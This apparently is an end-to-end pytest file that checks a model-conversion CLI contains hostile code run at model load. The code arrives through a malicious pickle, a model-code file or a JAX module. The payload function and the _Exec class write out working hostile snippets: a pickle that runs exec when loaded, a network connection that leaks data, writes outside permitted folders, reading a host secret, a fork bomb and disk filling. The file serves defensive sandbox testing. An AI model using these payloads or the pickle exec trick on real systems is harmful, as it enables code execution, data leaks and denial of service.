"""Untrusted models stay contained, through the real CLI: code that runs when a model is loaded (a malicious pickle,
the Python file of --model-code, a JAX module.py) tries to reach the network, write outside its output folder, read
host files, fork-bomb, fill the disk (one file, or many) and outlive its timeout. Every attempt fails: the conversion ends with one line
on stderr and exit 2 or 3, no container is left, nothing is half-written, and neither the input folder nor a host
canary folder changes by a byte. The hardening behind it is asserted on live containers in test_e2e_runner.py and
test_e2e_workers.py."""

import hashlib
import os
import pickle
import socket
import textwrap
import uuid

import pytest

from clihelp import cli

pytestmark = pytest.mark.e2e

SHAPE = "1,3,32,32"
SECRET = "host-secret-" + uuid.uuid4().hex


def payload(action, canary, host, port):
    """Python source that does the hostile `action` when it runs (at import, or when unpickled)."""
    return {
        "network": f"""
            import socket
            socket.create_connection(({host!r}, {port}), timeout=5).sendall(b"leaked")
        """,
        # every read-only mount (the inputs), then the host's canary folder (not mounted: no such path)
        "write-outside": f"""
            import os
            for line in open("/proc/self/mounts"):
                where, opts = line.split()[1], line.split()[3].split(",")
                if where.startswith(("/in", "/w/")) and "ro" in opts:
                    folder = where if os.path.isdir(where) else os.path.dirname(where)
                    open(os.path.join(folder, "planted"), "w").write("x")
            open({str(canary / "planted")!r}, "w").write("x")
        """,
        "read-host-file": f"""
            print(open({str(canary / "secret.txt")!r}).read())
        """,
        "fork-bomb": """
            import os
            while True:
                os.fork()
        """,
        "fill-disk": """
            import os, tempfile
            with open(os.path.join(tempfile.gettempdir(), "fill"), "wb") as fh:
                while True:
                    fh.write(b"\\0" * (1 << 20))
        """,
        # many files, each under the largest-file limit: the host's limit on all a step writes stops it
        "fill-disk-files": """
            import os, tempfile
            for i in range(100000):
                with open(os.path.join(tempfile.gettempdir(), "fill-%d" % i), "wb") as fh:
                    fh.write(b"\\1" * (8 << 20))
        """,
        "past-timeout": """
            import time
            time.sleep(600)
        """,
    }[action]


class _Exec:
    """Unpickling this runs `code`: a malicious checkpoint."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def tree_digest(folder):
    """sha256 over every path, mode and content below `folder` (links are not followed)."""
    h = hashlib.sha256()
    for root, dirs, files in sorted(os.walk(folder)):
        dirs.sort()
        for name in sorted(dirs + files):
            path = os.path.join(root, name)
            st = os.lstat(path)
            h.update(f"{os.path.relpath(path, folder)}:{st.st_mode}:{st.st_size}\n".encode())
            if os.path.isfile(path) and not os.path.islink(path):
                h.update(open(path, "rb").read())
    return h.hexdigest()


def bridge_gateway(engine):
    import ipaddress

    config = engine.client.networks.get("bridge").attrs["IPAM"]["Config"][0]
    # an engine started where docker0 already existed may leave Gateway out: it is then the subnet's first address
    return config.get("Gateway") or str(next(ipaddress.ip_network(config["Subnet"]).hosts()))


@pytest.fixture(scope="module")
def listener(engine):
    """A host port the hostile code aims at: the engine's bridge gateway, where a container with a network would
    reach the host."""
    sock = socket.socket()
    sock.bind(("0.0.0.0", 0))
    sock.listen(8)
    sock.setblocking(False)
    yield bridge_gateway(engine), sock.getsockname()[1], sock
    sock.close()


def make_input(vector, code, folder, torch_sample):
    """The CLI arguments of a conversion whose loading runs `code`, with its files written into `folder`."""
    folder.mkdir(parents=True)
    if vector == "jax":
        (folder / "module.py").write_text(code + textwrap.dedent("""

            def build():
                raise ValueError("never reached")
        """))
        return ["jax", f"{folder / 'module.py'}:build", "--input-signature", "1,4:float32"]
    if vector == "model-code":
        (folder / "net.py").write_text(code + "\n\nclass SmallCNN:\n    pass\n")
        (folder / "state_dict.pt").write_bytes((torch_sample / "state_dict.pt").read_bytes())
        return ["pytorch", folder / "state_dict.pt", "--input-shape", SHAPE, "--model-code", folder / "net.py:SmallCNN"]
    (folder / "model.pt").write_bytes(pickle.dumps(_Exec(code), protocol=2))
    (folder / "net.py").write_text((torch_sample / "net.py").read_text())
    return ["pytorch", folder / "model.pt", "--input-shape", SHAPE, "--model-code", folder / "net.py:SmallCNN"]


@pytest.fixture(scope="module")
def torch_sample(torch_samples):
    return torch_samples["cnn"]


ACTIONS = ["network", "write-outside", "read-host-file", "fork-bomb", "fill-disk", "fill-disk-files", "past-timeout"]


@pytest.mark.parametrize("action", ACTIONS)
@pytest.mark.parametrize("vector", ["pickle", "model-code", "jax"])
def test_hostile_code_in_a_model_stays_contained(engine, stack_images, torch_sample, listener, tmp_path, vector,
                                                 action):
    host, port, sock = listener
    canary = tmp_path / "canary"
    canary.mkdir()
    (canary / "secret.txt").write_text(SECRET)
    code = textwrap.dedent(payload(action, canary, host, port))
    args = make_input(vector, code, tmp_path / "input", torch_sample)
    before = tree_digest(tmp_path / "input"), tree_digest(canary)
    session = uuid.uuid4().hex
    env = dict(os.environ, ORCHESTRATOR_SESSION=session, ORCHESTRATOR_MAX_FILE_SIZE="64M",
               ORCHESTRATOR_MAX_WRITE="256M")
    out = tmp_path / "out"
    proc = cli("convert", *args[:2], out, *args[2:], "--quiet", "--memory", "2g", "--timeout", "10", env=env,
               timeout=600)
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    print(f"{vector}/{action}: exit {proc.returncode}: {lines[-1] if lines else ''}")  # shown by -rA: the tally
    assert proc.returncode in (2, 3), proc.stderr[-3000:]
    assert len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr[-3000:]
    assert SECRET not in proc.stdout + proc.stderr
    assert (tree_digest(tmp_path / "input"), tree_digest(canary)) == before
    assert not out.exists() and not list(tmp_path.glob(".out.*"))
    assert engine.client.containers.list(all=True, filters={"label": f"org.orchestrator.session={session}"}) == []
    try:
        conn, _ = sock.accept()
        conn.close()
        pytest.fail("the hostile code reached the host over the network")
    except BlockingIOError:
        pass
    why = {"past-timeout": "timed out after 10 s", "fill-disk": "File too large",
           "fill-disk-files": "over the 256 MiB a step may write (ORCHESTRATOR_MAX_WRITE)"}.get(action)
    if why:
        assert why in lines[0], lines[0]
